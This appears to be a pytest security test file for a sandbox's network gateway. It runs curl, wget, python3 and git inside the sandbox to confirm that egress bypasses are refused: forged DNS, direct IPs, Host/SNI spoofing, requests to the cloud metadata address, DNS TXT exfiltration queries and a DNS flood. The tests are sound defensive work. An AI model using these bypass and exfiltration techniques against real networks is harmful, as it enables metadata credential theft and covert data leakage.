# SPDX-License-Identifier: MIT
"""The bypass classes of test_egress_bypass.py again, with the real clients of
the `debian` template (curl, wget, python3 urllib, git over https) in a
sandbox of the same isolated world (spaced in a network namespace whose only
way out holds every upstream, 169.254.169.254 included), directly (the
transparent ports) and through the proxy. Every client skips certificate
checks, so that only the gateway can stop it: a request that got through
would be in the upstreams' log (each carries a token of its own in its
path), and the baseline shows the same commands get there where the policy
allows. Needs the debian template (templates/debian/build.sh)."""

import os
import secrets
import shlex
import struct
import subprocess
import time

import pytest

from attack_util import install_probes
from test_egress_bypass import (A, B, FAR_GW, HOST_PORT, META, POLICY, host_end, host_log, mark, reached,  # noqa: F401
                                set_policy, upstream, world)

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))))
BUILD = os.environ.get("SPACE_BUILD_DIR", os.path.join(REPO, "build"))
DEBIAN_TAR = os.environ.get("SPACE_DEBIAN_TAR", os.path.join(BUILD, "templates", "debian.tar"))
CLIENTS = ("curl", "wget", "python3", "git")
OPEN = {"allow": [{"cidr": "0.0.0.0/0", "ports": ["1-65535"]}]}   # whatever a rule could allow
FETCH = r"""import ssl, sys, urllib.request as u
url, proxy, host = sys.argv[1:4]
o = u.build_opener(u.ProxyHandler({"http": proxy, "https": proxy} if proxy else {}),
                   u.HTTPSHandler(context=ssl._create_unverified_context()))
print(o.open(u.Request(url, headers={"Host": host} if host else {}), timeout=8).status)
"""
UDP = r"""import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(bytes.fromhex(sys.argv[3]), (sys.argv[1], int(sys.argv[2])))
try:
    print(s.recv(4096).hex())
except OSError as e:
    print("none", e)
"""


@pytest.fixture(scope="module")
def dbox(world):
    if not os.path.exists(DEBIAN_TAR):
        pytest.skip(f"the debian template is not built ({DEBIAN_TAR}: templates/debian/build.sh)")
    d = world["d"]
    r = d.cli("template", "import", "debian", DEBIAN_TAR, timeout=600)
    assert r.rc == 0, r
    sid = d.create(template="debian", network=POLICY)["id"]
    try:
        d.sh(sid, f"cat > /tmp/fetch.py <<'EOF'\n{FETCH}EOF\ncat > /tmp/udp.py <<'EOF'\n{UDP}EOF\ncp /etc/hosts /tmp/hosts.orig")
        yield sid
    finally:
        d.delete(sid)


def gateway_of(world, sid):
    """The sandbox's host end (its gateway), from the proxy its environment names (no `ip` in debian)."""
    out = world["d"].sh(sid, 'printf %s "$HTTP_PROXY"').strip()
    assert out.startswith("http://") and out.endswith(":10080"), out
    return out[len("http://"):-len(":10080")]


def client(name, url, proxy=None, host=None):
    """The shell command of one real client fetching url (directly, or through proxy), TLS unchecked."""
    q = shlex.quote
    noenv = "env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY "
    if name == "curl":
        return noenv + (f"curl -sS -k --connect-timeout 3 -m 8 -o /dev/null -w '%{{http_code}}' "
                        f"{'-x ' + q(proxy) if proxy else '--noproxy ' + q('*')} "
                        f"{'-H ' + q('Host: ' + host) if host else ''} -g {q(url)}")
    if name == "wget":
        via = f"-e use_proxy=yes -e http_proxy={q(proxy)} -e https_proxy={q(proxy)}" if proxy else "-Y off"
        return noenv + (f"wget -q -O /dev/null -T 5 -t 1 --no-check-certificate {via} "
                        f"{'--header ' + q('Host: ' + host) if host else ''} {q(url)}")
    if name == "python3":
        return noenv + f"python3 /tmp/fetch.py {q(url)} {q(proxy or '')} {q(host or '')}"
    assert name == "git"
    return noenv + (f"GIT_TERMINAL_PROMPT=0 git -c http.sslVerify=false -c http.lowSpeedLimit=1 "
                    f"-c http.lowSpeedTime=5 {'-c http.proxy=' + q(proxy) if proxy else ''} "
                    f"{'-c http.extraHeader=' + q('Host: ' + host) if host else ''} ls-remote {q(url + '/repo.git')}")


def run(world, sid, name, url, **kw):
    r = world["d"].exec(sid, shell=client(name, url, **kw), timeout=60)
    assert r.response is None, r
    return r


def got(world, since, tok):
    """The requests that reached an upstream with tok in their path."""
    return [e for e in upstream(world, since) if e["kind"] == "http" and tok in (e.get("path") or "")]


def refused_all(world, sid, urls, proxy=None, host=None, clients=CLIENTS):
    """Each client, on each url: nothing reached any upstream or the host's services."""
    m = mark(world)
    outcome = {}
    for name in clients:
        for url in urls:
            tok = secrets.token_hex(4)
            r = run(world, sid, name, url.replace("TOK", tok), proxy=proxy, host=host)
            outcome[(name, url)] = (r.code, r.out.strip()[-80:], r.err.strip()[-200:])
            # curl prints the status it got: a refusal (403/502) or none, never the upstream's 200
            assert not (name == "curl" and r.out.strip() == "200"), (name, url, r)
            assert r.code != 0 or name == "curl", (name, url, r)
    assert reached(world, m) == [], (reached(world, m), outcome)
    assert host_log(world) == "", outcome


def test_baseline_real_clients_reach_an_allowed_name(world, dbox):
    """The commands below are not failing for another reason: allowed, each gets there both ways."""
    gw = gateway_of(world, dbox)
    proxy = f"http://{gw}:10080"
    for name in CLIENTS:
        for scheme in ("http", "https"):
            for via in (None, proxy):
                tok = secrets.token_hex(4)
                m = mark(world)
                r = run(world, dbox, name, f"{scheme}://allowed.test/{tok}/{name}", proxy=via)
                seen = got(world, m, tok)
                assert seen, (name, scheme, via, r)
                assert seen[0]["tls"] == (scheme == "https") and seen[0]["host"] == "allowed.test", seen
                if name != "git":   # the upstream is no git server: git saw an answer, not a repository
                    assert r.code == 0, (name, scheme, via, r)
    # and the sandbox's environment sends them through the proxy by itself
    tok = secrets.token_hex(4)
    m = mark(world)
    r = world["d"].exec(dbox, shell=f"curl -sS -k -o /dev/null https://allowed.test/{tok}/env", timeout=60)
    assert r.code == 0 and got(world, m, tok), r


def test_real_clients_denied_name(world, dbox):
    gw = gateway_of(world, dbox)
    urls = ["http://other.test/TOK", "https://other.test/TOK"]
    refused_all(world, dbox, urls)
    refused_all(world, dbox, urls, proxy=f"http://{gw}:10080")


def test_real_clients_forged_dns(world, dbox):
    """/etc/hosts says allowed.test is B (another upstream): every client connects there, and is refused."""
    d = world["d"]
    d.sh(dbox, f"echo '{B} allowed.test' >> /etc/hosts")
    try:
        assert d.sh(dbox, "getent hosts allowed.test").split()[0] == B
        refused_all(world, dbox, ["http://allowed.test/TOK", "https://allowed.test/TOK"])
    finally:
        d.sh(dbox, "cp /tmp/hosts.orig /etc/hosts")


def test_real_clients_direct_ip(world, dbox):
    gw = gateway_of(world, dbox)
    urls = [f"http://{A}/TOK", f"https://{A}/TOK", f"http://{B}:8080/TOK"]
    refused_all(world, dbox, urls)
    refused_all(world, dbox, urls, proxy=f"http://{gw}:10080")


def test_real_clients_host_and_sni_mismatch(world, dbox):
    """Host of the denied name to the allowed name (directly and as the proxy's absolute URI); curl's
    --connect-to: the SNI (and CONNECT authority) of one name to the other's address, both ways."""
    gw = gateway_of(world, dbox)
    proxy = f"http://{gw}:10080"
    refused_all(world, dbox, ["http://allowed.test/TOK"], host="other.test")
    refused_all(world, dbox, ["http://allowed.test/TOK"], host="other.test", proxy=proxy)
    m = mark(world)
    for via in ("--noproxy '*'", f"-x {proxy}"):
        for url, to in (("https://other.test/sni", "other.test:443:allowed.test:443"),
                        ("https://allowed.test/sni", "allowed.test:443:other.test:443"),
                        ("http://other.test/sni", "other.test:80:allowed.test:80")):
            r = world["d"].exec(dbox, shell=f"curl -sS -k --connect-timeout 3 -m 8 -o /dev/null -w '%{{http_code}}' "
                                            f"{via} --connect-to {to} {url}", timeout=60)
            assert r.out.strip() != "200", (via, url, r)
    assert reached(world, m) == []


def test_real_clients_internal_addresses_through_the_proxy(world, dbox):
    """With a rule that allows every address: loopback, the metadata address (a test host here), the
    host's own addresses, both by URL through the proxy (CONNECT for https)."""
    gw = gateway_of(world, dbox)
    set_policy(world, dbox, OPEN)
    try:
        refused_all(world, dbox, ["http://127.0.0.1:7779/TOK", f"http://{META}/TOK/latest/meta-data/",
                                  f"https://{META}/TOK", f"http://{gw}:{HOST_PORT}/TOK",
                                  f"http://{FAR_GW}:{HOST_PORT}/TOK"],
                    proxy=f"http://{gw}:10080")
    finally:
        set_policy(world, dbox, POLICY)


def test_real_clients_metadata_and_host_directly(world, dbox):
    gw = gateway_of(world, dbox)
    # a range holding the metadata address (one wholly inside 169.254.0.0/16 is refused by the API)
    set_policy(world, dbox, {"allow": OPEN["allow"] + [{"cidr": "168.0.0.0/6", "ports": ["1-65535"]}]})
    try:
        refused_all(world, dbox, [f"http://{META}/TOK/latest/meta-data/", f"https://{META}/TOK",
                                  f"http://{gw}:{HOST_PORT}/TOK", f"http://{FAR_GW}:{HOST_PORT}/TOK"])
    finally:
        set_policy(world, dbox, POLICY)


def test_real_clients_ipv6(world, dbox):
    refused_all(world, dbox, ["http://[::1]:7779/TOK", "http://[fd00::1]/TOK", "https://[fd00::1]/TOK"],
                clients=("curl", "wget", "python3"))


def test_real_clients_another_sandbox(world, dbox):
    d = world["d"]
    victim = d.create()["id"]
    try:
        install_probes(d, victim, world["probes"], ["net"])
        v_ip, _ = host_end(world, victim)
        set_policy(world, dbox, OPEN)
        port = 18000 + secrets.randbelow(1000)
        listener = subprocess.Popen([d.s.space_bin, "exec", victim, "--", "net", "listen", "0.0.0.0", str(port), "8000"],
                                    stdout=subprocess.PIPE, text=True,
                                    env={"SPACE_URL": d.url, "SPACE_API_KEY": d.admin_key, "PATH": os.environ["PATH"]})
        try:
            time.sleep(1.5)
            for name in ("curl", "python3"):
                r = run(world, dbox, name, f"http://{v_ip}:{port}/")
                assert r.code != 0 or r.out.strip() != "200", (name, r)
        finally:
            out, _ = listener.communicate(timeout=60)
        assert out.strip().splitlines()[-1:] == ["none"], out   # nothing connected to the victim
    finally:
        set_policy(world, dbox, POLICY)
        d.delete(victim)


def dns_query(name, qtype):
    q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack("!HH", qtype, 1)


def test_real_clients_udp_and_dns_exfiltration(world, dbox):
    """python3's sockets: UDP without a rule goes nowhere; a TXT query (or one for a made-up name below
    an allowed one) is refused and never asked upstream, whichever resolver address it is sent to."""
    gw = gateway_of(world, dbox)
    m = mark(world)
    out = world["d"].sh(dbox, f"python3 /tmp/udp.py {A} 5000 {b'exfil'.hex()}").strip()
    assert out.startswith("none"), out
    for server in (gw, A):
        for name, qtype in (("c2VjcmV0.allowed.test", 16), ("allowed.test", 16), ("c2VjcmV0.exfil.test", 1)):
            out = world["d"].sh(dbox, f"python3 /tmp/udp.py {server} 53 {dns_query(name, qtype).hex()}").strip()
            assert not out.startswith("none"), (server, name, out)   # the gateway answers port 53 anywhere
            reply = bytes.fromhex(out)
            assert reply[3] & 15 in (3, 5) and struct.unpack("!H", reply[6:8])[0] == 0, (server, name, qtype, out)
    seen = upstream(world, m)
    assert not [e for e in seen if e["kind"] == "udp"], seen
    assert not [e for e in seen if e["kind"] == "dns" and ("c2vj" in e["name"].lower() or e["qtype"] != 1)], seen


FLOOD = r"""import socket, struct, sys
n = int(sys.argv[2])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setblocking(False)
got = 0
for i in range(n):
    q = struct.pack("!HHHHHH", i & 0xffff, 0x0100, 1, 0, 0, 0) + b"\x05flood\x05other\x04test\x00" + struct.pack("!HH", 1, 1)
    while True:
        try:
            s.sendto(q, (sys.argv[1], 53)); break
        except BlockingIOError:
            pass
        try:
            while s.recv(512): got += 1
        except BlockingIOError:
            pass
print(n, got)
"""


def test_event_flood_does_not_fill_the_store(world, dbox):
    """Thousands of denied decisions through the real spaced: the store gets a bounded number of
    network.deny events for the sandbox and a network.dropped event that counts the rest."""
    d = world["d"]
    gw = gateway_of(world, dbox)
    n = 3000

    def evs(t):
        out, after = [], 0
        while True:   # every page: a truncated list would hide a flood that got through
            r = d.api("GET", "/v1/events", params={"sandbox": dbox, "type": t, "limit": 1000, "after": after})
            assert r.status == 200, r
            page = r.json()["events"]
            out += page
            if len(page) < 1000:
                return out
            after = r.json()["next"]

    before = len([e for e in evs("network.deny") if "flood.other.test" in e["reason"]])
    assert before == 0
    d.sh(dbox, f"cat > /tmp/flood.py <<'EOF'\n{FLOOD}EOF")
    out = d.sh(dbox, f"python3 /tmp/flood.py {gw} {n}", timeout=300).split()
    assert int(out[0]) == n, out
    deadline = time.monotonic() + 60
    while not evs("network.dropped"):
        assert time.monotonic() < deadline, "no network.dropped event reached the store"
        time.sleep(0.5)
    dropped = sum(e["data"]["dropped"] for e in evs("network.dropped"))
    denied = len([e for e in evs("network.deny") if "flood.other.test" in e["reason"]])
    assert 1 <= denied < n // 2 and dropped >= 1, (denied, dropped)
